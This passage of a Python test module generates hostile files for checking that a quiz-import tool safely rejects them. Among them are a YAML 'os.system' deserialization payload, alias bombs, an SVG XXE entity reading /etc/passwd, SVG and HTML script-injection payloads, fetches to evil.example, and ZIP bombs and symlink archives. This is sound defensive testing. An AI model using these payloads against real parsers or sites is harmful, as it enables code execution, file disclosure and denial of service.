    yield Hostile("a table: quotation marks", "a.csv", head + b'true_false,"' + b'""' * 60_000 + b'",true\n')
    for name, data in (
        ("lists in lists", b"[" * 600),
        ("items in items", b"- " * 200_000),
        ("maps in maps", b"{a: " * 100_000),
        ("keys in keys", b"? " * 100_000),
        ("aliases", b"a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n"),
        ("itself", b"a: &a [*a]\n"),
        ("merges", b"a: &a {x: 1}\nb: {<<: *a}\n"),
        ("a program", b"!!python/object/apply:os.system ['true']\n"),
        ("a module", b"test_id: !!python/name:os.system\n"),
        ("spaces", b"test_id: a\n" + b" " * 20_000 + b"x"),
        ("an open quotation mark", b'test_id: "' + b"a\\\n" * 5_000),
        ("an escape that is none", b'test_id: "\\UFFFFFFFF"\n'),
        ("half of a character", b'test_id: "\\ud800"\n'),
        ("two documents", b"test_id: a\n---\ntest_id: b\n"),
        ("documents", b"---\n" * 100_000),
        ("directives", b"%YAML 9.9\n%TAG ! tag:x,y:\n---\na: 1\n"),
        ("anchors", b"".join(b"a%d: &a%d 1\n" % (at, at) for at in range(500))),
        ("a number", b"title: x\nduration: " + b"9" * 5_000 + b"\nquestions: []\n"),
        ("nothing", b""),
        ("NUL", b"test_id: a\x00b\n"),
        ("bytes", b"test_id: \xff\n"),
    ):
        yield Hostile(f"YAML: {name}", "a.yaml", data, True)


def _pictures() -> Iterator[Hostile]:
    sides = 100_000
    gif = b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + bytes(20) + b";"
    jpeg = b"\xff\xd8\xff\xc0\x00\x11\x08" + struct.pack(">HH", 65_535, 65_535) + bytes(20) + b"\xff\xd9"
    webp = b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8X" + bytes(8) + b"\xff" * 6
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {0}>{1}</svg>'
    for name, data in (
        ("a PNG of 100,000 × 100,000", _png(sides, sides)),
        ("a PNG of 0 × 0", _png(0, 0)),
        ("a PNG of its first bytes", b"\x89PNG\r\n\x1a\n"),
        ("a PNG with a program behind it", png() + b"<script>alert(1)</script>"),
        ("a GIF of 65,535 × 65,535", gif),
        ("a GIF and JavaScript", b"GIF89a/*" + bytes(20) + b"*/=alert(1);"),
        ("a JPEG of 65,535 × 65,535", jpeg),
        ("a JPEG of markers", b"\xff\xd8" + b"\xff\xe0\x00\x00" * 100_000),
        ("a WebP of 16,777,216 × 16,777,216", webp),
        ("a program", b"\x7fELF" + bytes(100)),
        ("HTML", b"<!DOCTYPE html><script>alert(1)</script>"),
        ("a PDF", b"%PDF-1.7 /OpenAction << /S /JavaScript >>"),
        ("nothing", b""),
        ("11 MB", png() + bytes(11 * 1024**2)),
        *(
            (f"an SVG with {what}", svg.format(attributes, inside).encode())
            for what, attributes, inside in (
                ("a script", "", "<script>alert(1)</script>"),
                ("a handler", 'onload="alert(1)"', ""),
                ("a link", "", '<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
                ("another picture", "", '<image xlink:href="https://evil.example/x.png"/>'),
                (
                    "a foreign object",
                    "",
                    "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
                ),
                ("an animation", "", '<animate attributeName="href" to="javascript:alert(1)"/>'),
                ("a style", "", "<style>@import url(https://evil.example/)</style>"),
                ("a fill from elsewhere", "", '<rect fill="url(https://evil.example/#a)"/>'),
                ("a large size", 'width="100000" height="100000"', ""),
                ("commas in its box", f'viewBox="{"," * 1_000}"', ""),
                ("spaces in its box", f'viewBox="{" " * 100_000}x"', ""),
                ("dots in its box", f'viewBox="0 0 {"." * 9} {"." * 9}"', ""),
                ("groups in groups", "", "<g>" * 5_000 + "</g>" * 5_000),
                ("many elements", "", "<g/>" * 21_000),
                ("copies of copies", "", "".join(map(_copies, range(1, 10)))),
                ("many spaces", f'fill="url({" " * 100_000}"', ""),
            )
        ),
        (
            "an SVG with entities",
            b'<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&f;</svg>',
        ),
        ("an SVG in UTF-16", svg.format("", "<script>alert(1)</script>").encode("utf-16")),
    ):
        item = _item("").replace(b"<p>", b'<p><img src="a.png" alt="x"/>')
        yield Hostile(
            f"a picture: {name}", "a.zip", packed({"imsmanifest.xml": _MANIFEST, "i.xml": item, "a.png": data})
        )
        shown = '<img src="@@PLUGINFILE@@/1" alt="x"> x'
        within = f'<file name="1" encoding="base64">{b64encode(data[:100_000]).decode()}</file>'
        yield Hostile(f"a picture in base64: {name}", "a.xml", _moodle(shown, within=within))


def _item(
    rules: str,
    more: str = "",
    body: str = '<p>What? <textEntryInteraction responseIdentifier="R"/></p>',
    base: str = "float",
    mapped: str = "",
    correct: str = "1",
) -> bytes:
    return (
        f'<assessmentItem identifier="i" title="I"><responseDeclaration identifier="R" cardinality="single"'
        f' baseType="{base}"><correctResponse><value>{correct}</value></correctResponse>{mapped}</responseDeclaration>'
        f'<outcomeDeclaration identifier="SCORE" cardinality="single" baseType="float"/>{more}'
        f"<itemBody>{body}</itemBody><responseProcessing>{rules}</responseProcessing></assessmentItem>"
    ).encode()


def _test(inside: str) -> bytes:
    return (
        f'<assessmentTest identifier="t" title="T"><testPart identifier="p">'
        '<assessmentSection identifier="s" title="S">'
        f"{inside}</assessmentSection></testPart></assessmentTest>"
    ).encode()


def _moodle(
    text: str, *, kind: str = "essay", format_: str = "html", more: str = "", within: str = "", as_text: bool = True
) -> bytes:
    said = text.replace("&", "&amp;").replace("<", "&lt;") if as_text else text
    return (
        f'<quiz><question type="{kind}"><name><text>n</text></name><questiontext format="{format_}"><text>{said}'
        f"</text>{within}</questiontext>{more}</question></quiz>"
    ).encode()


def _canvas(points: str) -> bytes:
    return (
        '<questestinterop><assessment title="Q"><section ident="r"><item ident="a" title="A">'
        "<itemmetadata><qtimetadata>"
        f"<qtimetadatafield><fieldlabel>points_possible</fieldlabel><fieldentry>{points}</fieldentry></qtimetadatafield>"
        "</qtimetadata></itemmetadata><presentation><material><mattext>What?</mattext></material>"
        '<response_str ident="R"><render_fib/></response_str></presentation><resprocessing><outcomes>'
        f'<decvar maxvalue="{points}" varname="SCORE"/></outcomes><respcondition><conditionvar>'
        '<varequal respident="R">a</varequal></conditionvar><setvar>1</setvar></respcondition></resprocessing></item>'
        "</section></assessment></questestinterop>"
    ).encode()


def _yaml(text: str) -> bytes:
    quoted = text.replace("\t", " ").replace("'", "''")
    return f"test_id: a\ntitle: A\nquestions:\n  - {{type: true_false, prompt: 'x {quoted}', correct: true}}\n".encode()


def _escaped(text: str) -> bytes:
    return "".join(f"\\{sign}" if sign in "~=#{}:" else sign for sign in text).encode()


def _linked(files: dict[str, bytes], name: str, target: str) -> bytes:
    made = BytesIO()
    link = ZipInfo(name)
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with ZipFile(made, "w") as file:
        for path, data in files.items():
            file.writestr(path, data)
        file.writestr(link, target)
    return made.getvalue()


def _twice(one: str, other: str) -> bytes:
    """Two files: the names are made the same, where `ZipFile` would warn, in its bytes."""
    made = packed({one: b"<a/>", "?" * len(other): b"<b/>"})
    return made.replace(b"?" * len(other), other.encode())


def _with_flag(data: bytes, flag: int) -> bytes:
    """Each entry of its directory with a flag more."""
    changed = bytearray(data)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 8 : at + 10] = struct.pack("<H", struct.unpack_from("<H", data, at + 8)[0] | flag)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def _lying(data: bytes) -> bytes:
    """Each entry of its directory says that its file has a thousand bytes."""
    changed = bytearray(data)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        changed[at + 24 : at + 28] = struct.pack("<I", 1_000)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def _many(files: dict[str, bytes]) -> bytes:
    resources = "".join(f'<resource type="imsqti_item_xmlv2p1" href="{name}"/>' for name in files)
    return packed({"imsmanifest.xml": f"<manifest>{resources}</manifest>".encode(), **files})


def _crowded(count: int, end: str) -> bytes:
    made = BytesIO()
    with ZipFile(made, "w") as file:
        for at in range(count):
            file.writestr(ZipInfo(f"{at}{end}"), b"")
    return made.getvalue()


def _end(count: int, size: int, place: int) -> bytes:
    return b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, size, place, 0)


def _overlapping() -> bytes:
    """A hundred entries that are all the same bytes: https://www.bamsoftware.com/hacks/zipbomb/"""
    one = packed({"imsmanifest.xml": b"<manifest/>" + b" " * 1_000_000})
    at = one.find(b"PK\x01\x02")
    entry, rest = one[at:-22], one[:at]
    name = b"imsmanifest.xml"
    entries = b"".join(entry.replace(name, b"imsmanifes%02d.xml" % number) for number in range(100)) + entry
    return rest + entries + _end(101, len(entries), at)


def _copies(at: int) -> str:
    return f"<g id='g{at}'>" + f"<use href='#g{at - 1}'/>" * 10 + "</g>"


def _png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")
    )


FAMILIES: Final[tuple[Callable[[], Iterator[Hostile]], ...]] = (
    *(packages, _workbooks, _h5p, documents, _scripts, markup, processing, _numbers, _gift, _texts, _pictures),
)
